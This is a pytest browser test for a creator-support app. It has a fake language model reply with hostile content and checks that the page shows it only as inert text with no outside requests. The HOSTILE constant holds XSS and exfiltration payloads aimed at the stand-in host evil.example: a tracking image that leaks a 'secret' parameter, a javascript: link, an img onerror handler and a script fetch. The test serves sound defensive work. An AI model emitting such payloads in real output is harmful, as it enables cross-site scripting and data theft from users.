"""Hostile LLM output in a real browser: a fake model answers with remote images, script links and
raw HTML; the page shows them as inert text and no request leaves for a remote host."""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlparse

import pytest

from tests.app_fixtures import APP, ROOT, build_env
from tests.ui.test_browser import BROWSER_ARGS, CHROMIUM, LOCAL_HOSTS, free_port, settle, wait_healthy
from vectorstore.embeddings import Embedder

HOSTILE = ("The minimum withdrawal is US$2 [1]. ![pixel](https://evil.example/p.png?d=secret) "
           "[claim your bonus](javascript:alert(1)) <img src=https://evil.example/i.png onerror=alert(1)> "
           "<script>fetch('https://evil.example/x')</script> Best, The Spotlight Media creator team")

pytestmark = [pytest.mark.browser,
              pytest.mark.skipif(not CHROMIUM.exists(), reason="needs /usr/bin/chromium (CI: apt-get install -y chromium)")]


def test_hostile_llm_output_stays_inert(tmp_path: Path, embedder: Embedder) -> None:
    from playwright.sync_api import expect, sync_playwright

    env = build_env(tmp_path, embedder)
    script = tmp_path / "replies.json"
    script.write_text(json.dumps([HOSTILE]), encoding="utf-8")
    extra = {"CREATOR_DESK_LLM_PROVIDER": "fake", "CREATOR_DESK_LLM_MODEL": str(script)}
    port = free_port()
    cmd = [sys.executable, "-m", "streamlit", "run", str(APP), "--server.headless", "true", "--server.port", str(port),
           "--server.address", "127.0.0.1", "--server.fileWatcherType", "none"]
    proc = subprocess.Popen(cmd, cwd=ROOT, env={**os.environ, **env.env, **extra},
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    requests: list[str] = []
    try:
        url = f"http://127.0.0.1:{port}"
        wait_healthy(url, proc)
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=str(CHROMIUM), args=BROWSER_ARGS)
            page = browser.new_page(viewport={"width": 1400, "height": 1600})
            page.on("request", lambda request: requests.append(request.url))
            page.goto(url, wait_until="domcontentloaded")
            page.get_by_role("heading", name="Draft a reply").wait_for(timeout=120_000)
            settle(page)
            page.get_by_role("textbox", name="Creator message").fill("What's the minimum withdrawal in the US?")
            page.get_by_role("button", name="Draft", exact=True).click()
            reply = page.get_by_role("textbox", name="Reply to the creator (edit before sending)")
            reply.wait_for(timeout=120_000)
            settle(page)
            expect(reply).to_contain_text("US$2 [1]")
            assert page.locator("img[src*='evil.example']").count() == 0
            assert page.locator("a[href^='javascript:']").count() == 0
            assert page.locator("script:has-text('evil.example')").count() == 0
            page.screenshot(path=str(tmp_path / "hostile.png"))
            browser.close()
    finally:
        proc.terminate()
        proc.wait(timeout=20)
    outside = [u for u in requests if urlparse(u).scheme in ("http", "https") and urlparse(u).hostname not in LOCAL_HOSTS]
    assert requests and not outside, outside
